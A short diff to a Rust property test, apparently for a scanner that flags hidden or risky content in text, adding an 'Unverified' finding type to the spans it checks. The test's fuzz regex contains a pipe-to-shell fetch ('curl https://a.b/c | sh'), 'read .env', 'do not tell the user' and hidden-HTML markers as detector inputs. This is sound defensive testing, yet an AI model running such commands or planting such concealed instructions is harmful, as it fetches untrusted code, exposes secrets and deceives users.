@@ -82,7 +82,10 @@ proptest! {
     #[test]
     fn places_lie_in_the_text(text in "(<!--|-->|<span style=\"display:none\">|</span>|read .env|do not tell the user|curl https://a.b/c \\| sh|`|```|\n|é|  |\t\t\t\t\t\t|!`|\\[//\\]: #){0,30}") {
         for found in read(text.as_bytes()) {
-            let (Found::Hidden { span, .. } | Found::Pipe { span, .. } | Found::Runs { span, .. }) = found;
+            let (Found::Hidden { span, .. }
+            | Found::Pipe { span, .. }
+            | Found::Runs { span, .. }
+            | Found::Unverified { span, .. }) = found;
             prop_assert!(span.start <= span.end && span.end <= text.len());
             prop_assert!(text.get(span.range()).is_some());
         }
